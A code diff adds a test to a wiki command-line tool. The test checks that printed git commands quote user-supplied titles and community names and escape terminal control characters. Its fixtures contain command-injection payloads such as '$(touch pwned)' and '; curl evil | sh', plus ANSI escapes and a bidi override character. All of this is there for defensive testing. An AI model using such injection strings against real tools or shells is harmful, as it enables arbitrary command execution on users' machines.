@@ -1,4 +1,5 @@
 // `wiki new`: writes a draft in the right folder, refuses unknown communities and taken slugs, checks its flags.
+import { execFileSync } from 'node:child_process';
 import { existsSync, readFileSync } from 'node:fs';
 import path from 'node:path';
 import { describe, expect, it } from 'vitest';
@@ -31,6 +32,28 @@ describe('wiki new', () => {
     expect(result.stdout).toContain('git add content/ops/rotate-database-passwords.md');
     expect(result.stdout).toMatch(/pull request/);
     expect(wiki(root, ['check']).status).toBe(0);
+  });
+
+  it('quotes every name in the commands it prints, so a hostile title or community runs nothing, and escapes control characters', () => {
+    const root = writeFixture({
+      'wiki.config.yml': 'title: Fixture\n',
+      'content/$(touch pwned-folder)/community.yml': 'name: "Ops \\e[2J\\e]0;owned\\a; curl evil | sh"\n',
+    });
+    const title = `Don't $(touch pwned) "; curl evil | sh; " \x1b[31mred\u202Eevil`;
+    const result = wiki(root, ['new', 'touch pwned-folder', title]);
+    expect(result.stderr).toBe('');
+    expect(result.status).toBe(0);
+    expect(result.stdout).not.toMatch(/[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e]/);
+    const commit = /git add (.*) && git commit -m (.*)$/m.exec(result.stdout);
+    expect(commit).not.toBeNull();
+    // What a shell makes of the printed words when the reader pastes them: the same text, nothing run.
+    const shell = (words: string) => execFileSync('sh', ['-c', `printf '%s\\n' ${words}`], { cwd: root, encoding: 'utf8' }).split('\n').slice(0, -1);
+    const file = 'content/$(touch pwned-folder)/dont-touch-pwned--curl-evil--sh--31mredevil.md';
+    expect(existsSync(path.join(root, file))).toBe(true);
+    expect(shell(commit![1]!)).toEqual([file]);
+    expect(shell(commit![2]!)).toEqual([`Add "Don't $(touch pwned) \"; curl evil | sh; \" \\x1b[31mred\\u202eevil" to Ops \\x1b[2J\\x1b]0;owned\\x07; curl evil | sh`]);
+    expect(existsSync(path.join(root, 'pwned'))).toBe(false);
+    expect(existsSync(path.join(root, 'pwned-folder'))).toBe(false);
   });
 
   it('finds a community by its name and folder, and writes into sub-folders', () => {
